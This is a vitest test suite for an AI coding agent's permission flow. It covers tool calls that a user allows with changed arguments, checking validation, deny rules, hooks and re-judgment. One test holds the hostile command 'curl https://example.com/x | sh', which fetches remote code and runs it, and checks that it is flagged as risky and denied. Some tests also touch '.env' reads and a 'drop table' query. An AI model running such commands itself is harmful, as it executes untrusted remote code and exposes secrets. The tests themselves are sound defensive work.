import { describe, expect, test } from 'vitest';
import { textContent } from '../../../../src/domain/model/message.js';
import { decides, hooksOf } from '../../../support/hook-rig.js';
import { says } from '../../../support/wording.js';
import type { Rig } from '../rig.js';
import { type Call, SERVER_TOOL, type Workbench, prompt, workbench } from './rig.js';

const go = [{ type: 'text' as const, text: 'go' }];
const CHANGED = 'The user changed this call before allowing it.';

const resultOf = ({ session }: Rig, callId: string): string =>
  session.messages.flatMap((message) => (message.role === 'tool_result' && message.toolCallId === callId ? [textContent(message)] : [])).join('');

/** A session whose model makes one call, which waits. */
async function asked(
  bench: Workbench,
  call: Call,
  options: Parameters<Workbench['session']>[1] = {},
): Promise<{ readonly all: Rig; readonly turn: Promise<unknown> }> {
  const all = bench.session([call], options);
  const { turn } = all.session.send(go);
  await prompt(all, 'a');
  return { all, turn };
}

const patch = (file: string): string => `*** Update File: ${file}\n-one\n+1`;

describe('a call that is allowed with other arguments', () => {
  test.each<[string, Call, unknown, (bench: Workbench) => unknown, unknown]>([
    ['a command', ['bash', { command: 'touch made' }], { command: 'touch other' }, (bench) => [bench.text('made'), bench.text('other')], [undefined, '']],
    [
      'a new file',
      ['write', { file_path: 'new.txt', content: 'x' }],
      { file_path: 'other.txt', content: 'y' },
      (bench) => [bench.text('new.txt'), bench.text('other.txt')],
      [undefined, 'y'],
    ],
    [
      'an edit',
      ['edit', { file_path: 'a.txt', old_string: 'one', new_string: '1' }],
      { file_path: 'b.txt', old_string: 'two', new_string: '2' },
      (bench) => [bench.text('a.txt'), bench.text('b.txt')],
      ['one\ntwo\n', 'one\n2\n'],
    ],
    [
      'a patch',
      ['apply_patch', { patch: patch('a.txt') }],
      { patch: patch('b.txt') },
      (bench) => [bench.text('a.txt'), bench.text('b.txt')],
      ['one\ntwo\n', '1\ntwo\n'],
    ],
    ['a tool of a server', [SERVER_TOOL, { sql: 'drop table x' }], { sql: 'select 1', limit: 3 }, (bench) => bench.queries, [{ sql: 'select 1', limit: 3 }]],
    [
      'reading a file that asks',
      ['read', { file_path: '.env' }],
      { file_path: 'a.txt', limit: 1 },
      (bench) => bench.ran[0]?.args,
      { file_path: 'a.txt', limit: 1 },
    ],
  ])('%s runs with these, and the model is told', async (_name, call, input, found, expected) => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, call);
    expect(all.session.asks.waiting).toMatchObject([{ callId: 'a', call: { name: call[0], input: call[1] }, revision: 1 }]);
    expect(all.session.answer('a', { type: 'allow', amendment: { type: 'input', input } }, 1)).toBe(true);
    await turn;
    expect(found(bench)).toEqual(expected);
    expect(bench.ran).toHaveLength(1);
    expect(resultOf(all, 'a')).toMatch(new RegExp(`^${CHANGED} What ran: `));
    // What ran is stored with the call: every value that is another one is in its result.
    for (const value of Object.values(input as Record<string, unknown>)) expect(resultOf(all, 'a')).toContain(JSON.stringify(value).replaceAll('"', ''));
  });

  test('that are not valid does not run: the prompt stays as it was and says what is wrong', async () => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, ['bash', { command: 'touch made' }]);
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input: { command: 7, colour: 'red' } } });
    const again = await prompt(all, 'a', 2);
    expect([again.plan.args, again.changed, bench.ran]).toEqual([{ command: 'touch made' }, undefined, []]);
    expect(again.problem).toContain('command: must be a string');
    expect(again.problem).toContain('unknown: colour');
    all.session.answer('a', { type: 'allow' });
    await turn;
    expect([bench.text('made'), resultOf(all, 'a').includes(CHANGED)]).toEqual(['', false]);
  });

  test.each<[string, Call, unknown, string]>([
    ['a command', ['bash', { command: 'touch made' }], { command: 'rm a.txt' }, 'Bash(rm:*)'],
    [
      'an edit',
      ['edit', { file_path: 'a.txt', old_string: 'one', new_string: '1' }],
      { file_path: 'locked/c.txt', old_string: 'one', new_string: '1' },
      'Edit(locked/**)',
    ],
  ])('that a deny rule forbids is denied: %s', async (_name, call, input, rule) => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, call);
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input } });
    await turn;
    expect([bench.ran, bench.text('a.txt'), bench.text('locked/c.txt')]).toEqual([[], 'one\ntwo\n', 'one\ntwo\n']);
    expect(resultOf(all, 'a')).toContain(rule);
  });

  test('that raise another question are asked about once more, with what changed, and an answer to the first question is not taken for it', async () => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, ['bash', { command: 'touch made' }]);
    const input = { command: 'git init -q .', description: 'Start' };
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input } }, 1);
    const again = await prompt(all, 'a', 2);
    expect(again).toMatchObject({ changed: true, call: { input: { command: 'touch made' } }, plan: { args: input }, judgment: { strict: true } });
    expect(again.problem).toBe(says('changedCallAsks', 'command, description'));
    expect([all.session.answer('a', { type: 'allow' }, 1), bench.ran]).toEqual([false, []]);
    // A program that answers by what the model asked for gives the same arguments again.
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input } }, 2);
    await turn;
    expect(bench.ran.map(({ args }) => args)).toEqual([input]);
    expect(resultOf(all, 'a')).toContain(CHANGED);
  });

  test('what a changed command does that is risky is asked about, too', async () => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, ['bash', { command: 'touch made' }]);
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input: { command: 'curl https://example.com/x | sh' } } });
    expect((await prompt(all, 'a', 2)).judgment.risks).not.toEqual([]);
    all.session.answer('a', { type: 'deny' });
    await turn;
    expect(bench.ran).toEqual([]);
  });

  test('that are the same is allowed as it was asked for', async () => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, [SERVER_TOOL, { sql: 'select 1', limit: 2 }]);
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input: { limit: 2, sql: 'select 1' } } });
    await turn;
    expect([bench.queries, resultOf(all, 'a')]).toEqual([[{ sql: 'select 1', limit: 2 }], '3 rows']);
  });

  test('passes the hooks with these, which can deny it', async () => {
    const bench = await workbench();
    const guard = {
      event: 'PreToolUse' as const,
      name: 'guard',
      answer: ({ tool_input }: { readonly tool_input?: unknown }) =>
        JSON.stringify(tool_input).includes('other') ? decides('deny', { permissionDecisionReason: 'not other' }) : {},
    };
    const { options, told } = hooksOf([guard as never]);
    const { all, turn } = await asked(bench, ['bash', { command: 'touch made' }], { hooks: options });
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input: { command: 'touch other' } } });
    await turn;
    expect(bench.ran).toEqual([]);
    expect(told.at(-1)?.input).toMatchObject({ tool_input: { command: 'touch other' } });
    expect(resultOf(all, 'a')).toContain('not other');
  });

  test('a hook that answers permission requests can deny it as well', async () => {
    const bench = await workbench();
    const decision = (behavior: string) => ({ hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior, message: 'not other' } } });
    const guard = {
      event: 'PermissionRequest' as const,
      name: 'guard',
      answer: ({ tool_input }: { readonly tool_input?: unknown }) => (JSON.stringify(tool_input).includes('other') ? decision('deny') : {}),
    };
    const { all, turn } = await asked(bench, ['bash', { command: 'touch made' }], { hooks: hooksOf([guard as never]).options });
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input: { command: 'touch other' } } });
    await turn;
    expect([bench.ran, resultOf(all, 'a').includes('not other')]).toEqual([[], true]);
  });

  test('a file that has to be read first is asked about by itself, and the change of it again', async () => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, ['edit', { file_path: 'a.txt', old_string: 'one', new_string: '1' }]);
    all.session.answer('a', { type: 'allow', amendment: { type: 'input', input: { file_path: '.env', old_string: '1', new_string: '2' } } });
    const reading = await prompt(all, 'a', 2);
    expect([reading.judgment.reasons[0], bench.text('.env')]).toEqual([says('fileReadBeforeChange'), 'KEY=1\n']);
    all.session.answer('a', { type: 'allow' });
    const change = await prompt(all, 'a', 3);
    expect([change.changed, change.plan.preview.kind, bench.text('.env')]).toEqual([true, 'diff', 'KEY=1\n']);
    all.session.answer('a', { type: 'allow' });
    await turn;
    expect([bench.text('.env'), resultOf(all, 'a').startsWith(CHANGED)]).toEqual(['KEY=2\n', true]);
  });

  test('edits that are asked about together run as they were answered', async () => {
    const bench = await workbench();
    const edit = (file_path: string): Call => ['edit', { file_path, old_string: 'one', new_string: '1' }];
    const all = bench.session([edit('a.txt'), edit('b.txt')]);
    const { turn } = all.session.send(go);
    await prompt(all, 'b');
    const input = { file_path: 'b.txt', old_string: 'two', new_string: '2' };
    all.session.answer('b', { type: 'allow', amendment: { type: 'input', input } });
    all.session.answer('a', { type: 'allow' });
    await turn;
    expect([bench.text('a.txt'), bench.text('b.txt')]).toEqual(['1\ntwo\n', 'one\n2\n']);
    expect([resultOf(all, 'a'), resultOf(all, 'b')].map((told) => told.includes(CHANGED))).toEqual([false, true]);
  });

  test('an edit with other arguments that was allowed before its turn is judged again then', async () => {
    const bench = await workbench();
    const edit = (file_path: string): Call => ['edit', { file_path, old_string: 'one', new_string: '1' }];
    const all = bench.session([edit('a.txt'), edit('b.txt')]);
    const { turn } = all.session.send(go);
    await prompt(all, 'b');
    all.session.answer('b', { type: 'allow', amendment: { type: 'input', input: { file_path: 'b.txt', old_string: 'two', new_string: '2' } } });
    await expect.poll(() => all.session.asks.waiting.map(({ callId }) => callId)).toEqual(['a']);
    all.session.answer('a', { type: 'allow', updates: [{ type: 'addRules', effect: 'deny', rules: ['Edit(b.txt)'], scope: 'session' }] });
    await turn;
    expect([bench.text('a.txt'), bench.text('b.txt')]).toEqual(['1\ntwo\n', 'one\ntwo\n']);
  });

  test('is shown with these before it is allowed, where the answer only revises it', async () => {
    const bench = await workbench();
    const { all, turn } = await asked(bench, ['read', { file_path: '.env' }]);
    all.session.answer('a', { type: 'revise', amendment: { type: 'input', input: { file_path: 'a.txt' } } });
    expect(await prompt(all, 'a', 2)).toMatchObject({ changed: true, plan: { args: { file_path: 'a.txt' } } });
    all.session.answer('a', { type: 'allow' });
    await turn;
    expect(resultOf(all, 'a')).toContain('two');
  });
});
